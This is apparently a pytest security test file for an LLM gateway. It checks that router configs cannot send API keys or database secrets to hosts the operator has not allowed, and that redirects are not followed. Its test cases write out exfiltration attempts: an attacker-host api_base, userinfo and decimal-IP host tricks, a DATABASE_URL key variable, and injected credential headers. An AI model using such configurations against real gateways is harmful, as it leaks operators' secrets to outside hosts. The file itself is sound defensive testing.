"""Attack: a prompt engineer syncs a router that sends a secret to a host of their choosing.

On the code before this check, any synced (even unapproved) router could set `api_base` to any host and
`api_key_env` to any environment variable (a database password), `params` to litellm settings and
`headers` to credentials, and its calls carried them out. Now a router file may name only the hosts,
variables, headers and parameters on the operator's egress lists: `opsgate sync` refuses anything else
(file, line, field), and a version registered before the rules changed is stopped before the host is
contacted or the variable read. Redirects from an allowed host are not followed.
"""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

import httpx
import pytest
import yaml

from gateway.routing.spec import RouterSpec
from tests.conftest import GatewayFactory, ProjectFactory
from tests.fakes.gateway import GatewayProcess, assert_error
from tests.fakes.upstream import FakeUpstream
from tests.security.egress_fakes import (
    MESSAGES,
    Listener,
    assert_no_leak,
    attacker,
    fake_anthropic,
    gateway_yaml,
    git_gateway,
    line_of,
    register_unchecked,
    routers,
    sync,
)

__all__ = ["attacker", "fake_anthropic"]  # fixtures


@pytest.fixture(scope="module")
def gw(
    project_factory: ProjectFactory,
    gateway_factory: GatewayFactory,
    fake_upstream: FakeUpstream,
    fake_anthropic: Listener,
) -> Iterator[GatewayProcess]:
    found = routers(fake_anthropic, fake_upstream)
    # An allowed host that redirects to the attacker: through litellm (Anthropic) and direct.
    found["bounce"] = {"deployments": [_claude(fake_anthropic.url + "/redirect")]}
    found["bounce-direct"] = {
        "deployments": [
            {"id": "d", "model": "openai/x", "api_base": fake_anthropic.url + "/redirect/v1", "api_key_env": "OPENAI_API_KEY"}
        ]
    }  # fmt: skip
    config = gateway_yaml(fake_anthropic, fake_upstream)
    with git_gateway(project_factory, gateway_factory, found, config) as gateway:
        yield gateway


def _claude(api_base: str, **fields: Any) -> dict[str, Any]:
    return {
        "id": "c",
        "model": "anthropic/claude-x",
        "api_base": api_base,
        "api_key_env": "ANTHROPIC_API_KEY",
        **fields,
    }


def router_file(name: str, deployment: dict[str, Any]) -> str:
    return yaml.safe_dump({"name": name, "deployments": [deployment]}, sort_keys=False)


def chat(gw: GatewayProcess, model: str, **extra: Any) -> httpx.Response:
    with gw.http() as http:
        return http.post(
            "/v1/chat/completions", json={"model": model, "messages": MESSAGES, **extra}, headers=gw.auth()
        )


def test_sync_refuses_routers_that_name_what_the_operator_did_not_allow(
    gw: GatewayProcess, attacker: Listener, fake_anthropic: Listener
) -> None:
    allowed = fake_anthropic.url
    cases: list[tuple[dict[str, Any], str, str]] = [
        (_claude(attacker.url), "api_base", f"127.0.0.1:{attacker.port} is not on the operator's egress allow-list"),
        (_claude(f"http://127.0.0.1:{fake_anthropic.port}@127.0.0.1:{attacker.port}"), "api_base", "user information"),
        (_claude(f"http://2130706433:{attacker.port}"), "api_base", "egress.hosts"),
        (_claude(allowed, api_key_env="DATABASE_URL"), "api_key_env", "DATABASE_URL is not one a router may name"),
        (_claude(allowed, api_key_env="OPSGATE_TEST_CANARY_TOKEN"), "api_key_env", "never OPSGATE_*"),
        (_claude(allowed, headers={"Authorization": "Bearer sk-attacker"}), "headers.Authorization", "may not set the header"),
        (_claude(allowed, params={"api_base": attacker.url}), "params.api_base", "only the operator configures"),
        (_claude(allowed, params={"aws_region_name": "eu-west-1"}), "params.aws_region_name", "only the operator"),
        (_claude(allowed, params={"extra_headers": {"x-api-key": "k"}}), "params.extra_headers", "only the operator"),
        (_claude(allowed, params={"mock_response": "pwned"}), "params.mock_response", "only the operator"),
        ({"id": "c", "model": "someprovider/x"}, "model", "set api_base"),
        ({"id": "c", "model": "ollama/llama3"}, "model", "egress.hosts"),  # loopback: only when listed
    ]  # fmt: skip
    files = {
        f"config/routers/leaky{i}.yaml": router_file(f"leaky{i}", dep) for i, (dep, _, _) in enumerate(cases)
    }
    refused = sync(gw, files, "routers that send secrets elsewhere")
    try:
        assert refused.returncode == 1, refused.stdout + refused.stderr
        for i, (dep, field, words) in enumerate(cases):
            text = files[f"config/routers/leaky{i}.yaml"]
            block, _, key = field.partition(".")
            line = line_of(text, f"{block}:") + (1 if key else 0)  # one key under headers/params
            # a key whose value is a mapping is reported at the mapping's first line
            lines = (line, line + 1) if isinstance(dep[block][key] if key else dep[block], dict) else (line,)
            errors = [f"config/routers/leaky{i}.yaml:{n}: deployments.0.{field}: " for n in lines]
            found = [e for e in refused.stderr.splitlines() if any(err in e for err in errors)]
            assert found, f"{errors[0]} not in\n{refused.stderr}"
            assert words in found[0]
        assert "leaky" not in refused.stdout  # nothing registered
    finally:
        sync(gw, dict.fromkeys(files, ""), "remove them")
    assert_no_leak(gw, attacker, refused.stdout, refused.stderr)


def test_a_router_synced_under_looser_rules_is_stopped_before_any_call(
    gw: GatewayProcess, attacker: Listener, fake_anthropic: Listener
) -> None:
    """The project's config/gateway.yaml is edited to allow the attacker and the database variable (as a
    prompt engineer could in their checkout), and the router syncs; the running gateway keeps the rules it
    started with: neither the host is contacted nor the variable read."""
    config = gw.project_dir / "config" / "gateway.yaml"
    strict = config.read_text(encoding="utf-8")
    loose = strict.replace("  hosts: [", f"  hosts: ['127.0.0.1:{attacker.port}', ") + (
        "  api_key_envs: ['*_API_KEY', DATABASE_URL]\n"
    )
    files = {
        "config/gateway.yaml": loose,
        "config/routers/exfil_host.yaml": router_file("exfil_host", _claude(attacker.url)),
        "config/routers/exfil_env.yaml": router_file("exfil_env", _claude(fake_anthropic.url, api_key_env="DATABASE_URL")),
    }  # fmt: skip
    synced = sync(gw, files, "looser egress, and routers that use it")
    try:
        assert synced.returncode == 0, synced.stdout + synced.stderr
        anthropic_before = len(fake_anthropic.received)
        texts = []
        for model, field in (
            ("router:exfil_host@latest", "api_base"),
            ("router:exfil_env@latest", "api_key_env"),
        ):
            for stream in (False, True):
                r = chat(gw, model, stream=stream)
                assert_error(gw, r, 502, type_="upstream_error", code="egress_denied")
                message = r.json()["error"]["message"]
                assert f"{field}: " in message and "config/gateway.yaml" in message
                texts.append(r.text)
        assert len(fake_anthropic.received) == anthropic_before  # the allowed host was not called either
    finally:
        sync(gw, {**dict.fromkeys(files, ""), "config/gateway.yaml": strict}, "back to the operator's rules")
    assert_no_leak(gw, attacker, *texts)


@pytest.mark.parametrize(
    "params",
    [
        {"api_base": "ATTACKER"},
        {"base_url": "ATTACKER"},
        {"extra_headers": {"x-api-key": "sk-attacker"}},
        {"api_key": "sk-attacker"},
        {"custom_llm_provider": "openai"},
    ],
)
def test_deployment_params_synced_before_the_check_are_refused_at_call_time(
    gw: GatewayProcess, attacker: Listener, fake_anthropic: Listener, params: dict[str, Any]
) -> None:
    name = "old_" + next(iter(params))
    params = {k: (attacker.url if v == "ATTACKER" else v) for k, v in params.items()}
    spec = RouterSpec.model_validate(
        {"name": name, "deployments": [_claude(fake_anthropic.url, params=params)]}
    )
    register_unchecked(gw, "router", spec)
    anthropic_before = len(fake_anthropic.received)
    r = _answer(gw, name)
    assert_error(gw, r, 502, type_="upstream_error", code="egress_denied")
    assert f"params.{next(iter(params))}: " in r.json()["error"]["message"]
    assert len(fake_anthropic.received) == anthropic_before
    assert_no_leak(gw, attacker, r.text)


@pytest.mark.parametrize("model", ["bounce", "bounce-direct"])
@pytest.mark.parametrize("stream", [False, True], ids=["plain", "stream"])
def test_a_redirect_from_an_allowed_host_is_not_followed(
    gw: GatewayProcess, attacker: Listener, fake_anthropic: Listener, model: str, stream: bool
) -> None:
    r = chat(gw, model, stream=stream)
    assert r.status_code in (502, 503) or (stream and "error" in r.text), r.text
    assert fake_anthropic.received[-1].path.startswith("/redirect/")  # the allowed host was called
    assert_no_leak(gw, attacker, r.text)


def _answer(gw: GatewayProcess, model: str) -> httpx.Response:
    import time

    deadline = time.monotonic() + 10
    while True:
        r = chat(gw, model)
        if r.status_code != 404 or time.monotonic() > deadline:
            return r
        time.sleep(0.1)
